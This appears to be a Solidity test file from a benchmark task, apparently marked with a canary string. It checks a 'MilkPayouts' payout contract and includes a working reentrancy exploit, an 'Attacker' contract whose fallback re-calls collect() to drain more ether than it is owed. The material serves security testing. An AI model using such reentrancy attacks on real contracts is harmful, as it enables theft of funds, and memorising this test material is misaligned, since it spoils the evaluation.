pragma solidity 0.4.26;

import "./MilkPayouts.sol";

// assay-canary-51e9d779-8eb7-41f1-8b15-a84638fad682

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    MilkPayouts private payouts;
    Attacker private mallory;

    function setUp() public {
        vm.deal(address(this), 40 ether);
        payouts = new MilkPayouts();
        require(address(payouts).call.value(30 ether)(), "funded");
        mallory = new Attacker(payouts);
        payouts.credit(ANA, 15 ether);
        payouts.credit(address(mallory), 4 ether);
    }

    function () external payable {}

    function test_Regular() public {
        require(payouts.totalOwed() == 19 ether, "owed");
        payouts.credit(BEN, 5 ether);
        vm.prank(ANA);
        payouts.collect(CAT);
        require(CAT.balance == 15 ether && payouts.owedTo(ANA) == 0 && payouts.totalOwed() == 9 ether, "collected");
        payouts.credit(BEN, 3 ether);
        payouts.correct(BEN, 2 ether);
        vm.prank(BEN);
        payouts.collect(BEN);
        require(BEN.balance == 6 ether && payouts.totalOwed() == 4 ether, "twice credited");
        payouts.takeBack(5 ether);
        require(address(this).balance == 15 ether && address(payouts).balance == 4 ether, "taken back");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("not the owner");
        payouts.credit(BEN, 1);
        vm.expectRevert("not the owner");
        payouts.takeBack(1);
        vm.expectRevert("not the owner");
        payouts.correct(ANA, 1);
        vm.expectRevert("nothing owed");
        payouts.collect(BEN);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.expectRevert("no farmer");
        payouts.credit(address(0), 1);
        vm.expectRevert("not covered");
        payouts.credit(BEN, 11 ether + 1);
        vm.expectRevert("overflow");
        payouts.credit(BEN, uint256(-1));
        vm.expectRevert("underflow");
        payouts.correct(ANA, 15 ether + 1);
        vm.expectRevert("owed");
        payouts.takeBack(11 ether + 1);
        Refusing refusing = new Refusing();
        vm.prank(ANA);
        vm.expectRevert("not paid");
        payouts.collect(address(refusing));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 16 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(payouts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Refusing {
    function () external payable {
        revert("no");
    }
}

contract Attacker {
    MilkPayouts private payouts;
    uint256 private rounds;

    constructor(MilkPayouts p) public {
        payouts = p;
    }

    function run() external {
        payouts.collect(address(this));
    }

    function () external payable {
        if (rounds < 3) {
            rounds++;
            payouts.collect(address(this));
        }
    }
}
